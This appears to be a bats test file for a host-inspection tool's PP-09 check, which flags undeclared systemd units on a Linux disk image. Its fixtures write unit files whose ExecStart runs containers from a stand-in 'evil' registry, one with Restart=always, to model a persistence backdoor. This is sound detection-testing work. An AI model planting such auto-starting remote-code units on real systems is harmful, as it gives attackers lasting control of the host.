#!/usr/bin/env bats
# SPDX-License-Identifier: MIT
# What starts by itself on the disk of a Linux host, and what it comes down to: through wrappers, shells and command lines.
load helper

setup() {
	image=$BATS_TEST_TMPDIR/image
	cp -R "$TOP/tests/replay/linux-incident/root" "$image"
	local uid=1000
	[ "$(id -u)" -eq 0 ] || uid=$(id -u)
	[ "$(id -u)" -ne 0 ] || chown -R 1000:1000 "$image/home/alice"
	printf 'root:x:0:0:root:/root:/bin/sh\nalice:x:%s:1000::/home/alice:/bin/sh\n' "$uid" >"$image/etc/passwd"
}

# put PATH [MODE] <TEXT, into the image
put() { mkdir -p "$(dirname "$image$1")"; cat >"$image$1"; chmod "${2:-644}" "$image$1"; }
look() { run_agent doctor "${1:-local-runtime}" --root "$image" --owner alice --json >"$BATS_TEST_TMPDIR/doc" || [ $? -eq 1 ]; }
# finding CHECK SUBJECT MEMBER: of that check about that file, whatever its verdict but ok
finding() { jq -r --arg c "$1" --arg s "$2" --arg m "$3" '.findings[] | select(.check == $c and ($s == "" or .subject == $s) and .verdict != "ok") | .[$m] // empty | if type == "object" then "\(.file):\(.line)" else . end' "$BATS_TEST_TMPDIR/doc"; }
accused() { [ "$(finding PP-09 "$1" verdict)" = fail ] || { echo "not found: $1"; jq -c '.findings[]' "$BATS_TEST_TMPDIR/doc"; return 1; }; }

@test "a unit that is only called like a declared agent's is not declared (PP-09)" {
	unit=org.socioprophet.node-commander.service
	look
	[ -z "$(finding PP-09 $unit message)" ]
	put /etc/systemd/system/$unit <<<$'[Service]\nExecStart=/usr/bin/podman run quay.io/evil/x\nRestart=always'
	put /home/alice/.local/share/systemd/user/$unit <<<$'[Service]\nExecStart=/usr/bin/podman run quay.io/evil/y'
	look
	[ "$(finding PP-09 $unit location | sort)" = "$(printf '%s\n' /etc/systemd/system/$unit:2 /home/alice/.local/share/systemd/user/$unit:2)" ]
}
